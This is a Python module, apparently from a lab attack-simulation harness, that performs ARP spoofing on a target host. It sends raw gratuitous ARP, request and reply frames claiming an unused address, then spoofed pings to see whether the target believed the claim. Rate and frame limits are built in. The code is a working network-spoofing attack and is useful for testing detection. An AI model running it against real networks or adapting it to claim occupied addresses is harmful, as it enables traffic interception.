"""ARP spoofing: telling a host of the lab that an address nobody has is here.

Only an unused address of the target's own network is claimed, so nobody's traffic is taken; the
target's answers to packets from that address show whether it believed it.
"""

from __future__ import annotations

import random
import socket
import struct
import time
from fcntl import ioctl
from ipaddress import ip_network

from common import PeerError, Session, begun, emit, main
from common_syn import checksum

ARP, IPV4 = 0x0806, 0x0800
REQUEST, REPLY = 1, 2
MAX_RATE_S, MAX_FRAMES = 20.0, 400
BROADCAST = b"\xff" * 6
SIOCGIFHWADDR = 0x8927


class Spoofer:
    """One raw socket on the interface towards the target."""

    def __init__(self, session: Session) -> None:
        self.session, self.rng = session, session.rng
        self.target = str(session.peer["address"])
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as probe:
            probe.connect((self.target, 9))
            self.own = str(probe.getsockname()[0])
        self.interface = self._interface()
        self.mac = self._mac()
        self.raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(0x0003))
        self.raw.bind((self.interface, 0))
        self.raw.setblocking(False)
        self.claimed = self._unused()
        self.target_mac = b""
        self.frames = self.believed = 0

    def _interface(self) -> str:
        """The interface that has our address."""
        for name in (name for _, name in socket.if_nameindex() if name != "lo"):
            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
                sock.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, name.encode())
                try:
                    sock.connect((self.target, 9))
                except OSError:
                    continue
                return name
        raise PeerError("no interface leads to the target")

    def _mac(self) -> bytes:
        request = struct.pack("256s", self.interface.encode())
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:
            return ioctl(sock, SIOCGIFHWADDR, request)[18:24]

    def _unused(self) -> str:
        """An address of the network, far from those that hosts are given."""
        network = ip_network(f"{self.target}/24", strict=False)
        return str(network.network_address + self.rng.randrange(200, 250))

    def arp(self, operation: int, to: bytes, claimed: str, asked: str) -> None:
        """Send an ARP packet that says where ``claimed`` is."""
        begun()
        body = struct.pack("!HHBBH", 1, IPV4, 6, 4, operation)
        body += self.mac + socket.inet_aton(claimed)
        body += (bytes(6) if operation == REQUEST else to) + socket.inet_aton(asked)
        self._send(to, ARP, body)

    def ping(self) -> None:
        """An echo request from the claimed address: who believes us answers to us."""
        payload = self.rng.randbytes(self.rng.choice((16, 32, 56)))
        head = struct.pack("!BBHHH", 8, 0, 0, self.rng.getrandbits(16), self.frames & 0xFFFF)
        echo = head[:2] + struct.pack("!H", checksum(head + payload)) + head[4:] + payload
        size = 20 + len(echo)
        ip = struct.pack("!BBHHHBBH", 0x45, 0, size, self.rng.getrandbits(16), 0, 64, 1, 0)
        ip += socket.inet_aton(self.claimed) + socket.inet_aton(self.target)
        ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
        self._send(self.target_mac, IPV4, ip + echo)

    def _send(self, to: bytes, kind: int, body: bytes) -> None:
        self.raw.send(to + self.mac + struct.pack("!H", kind) + body)
        self.frames += 1

    def listen(self) -> None:
        """Take what has come in."""
        while True:
            try:
                frame = self.raw.recv(2_048)
            except BlockingIOError:
                return
            if frame[:6] != self.mac:
                continue
            kind = struct.unpack("!H", frame[12:14])[0]
            if kind == ARP and socket.inet_ntoa(frame[28:32]) == self.target:
                self.target_mac = frame[6:12]
            elif kind == IPV4 and frame[23] == 1 and frame[30:34] == socket.inet_aton(self.claimed):
                self.believed += frame[34] == 0

    def wait(self, wait_s: float) -> bool:
        """Listen for a while; False when time is over."""
        end = time.monotonic() + wait_s
        while time.monotonic() < end:
            if not self.session.rest_s(min(0.05, wait_s)):
                return False
            self.listen()
        return True


def act(session: Session) -> None:
    """Spoof; the effect is that the target sent us what was for the claimed address."""
    spoofer = Spoofer(session)
    variant, rng = str(session.params["variant"]), session.rng
    try:
        for _ in range(3):
            spoofer.arp(REQUEST, BROADCAST, spoofer.own, spoofer.target)
            if not spoofer.wait(0.3) or spoofer.target_mac:
                break
        gap_s = 1 / min(float(session.params["rate_s"]), MAX_RATE_S)
        for _ in range(min(int(session.params["claims"]), MAX_FRAMES)):
            _claim(spoofer, variant, rng)
            if not spoofer.wait(rng.expovariate(1 / gap_s)):
                break
            if spoofer.target_mac and rng.random() < 0.5:
                spoofer.ping()
                if not spoofer.wait(0.2):
                    break
    finally:
        emit("effect", success=spoofer.believed > 0, claimed=spoofer.claimed,
             frames=spoofer.frames, answers=spoofer.believed)  # fmt: skip


def _claim(spoofer: Spoofer, variant: str, rng: random.Random) -> None:
    if variant == "gratuitous":
        spoofer.arp(REQUEST, BROADCAST, spoofer.claimed, spoofer.claimed)
    elif variant == "request":  # who asks is believed, too
        spoofer.arp(REQUEST, BROADCAST, spoofer.claimed, spoofer.target)
    else:
        to = spoofer.target_mac or BROADCAST
        spoofer.arp(REPLY, to, spoofer.claimed, spoofer.target)
        if rng.random() < 0.3:  # Linux takes an answer to a question only
            spoofer.arp(REQUEST, BROADCAST, spoofer.claimed, spoofer.target)


if __name__ == "__main__":
    main(None, act)
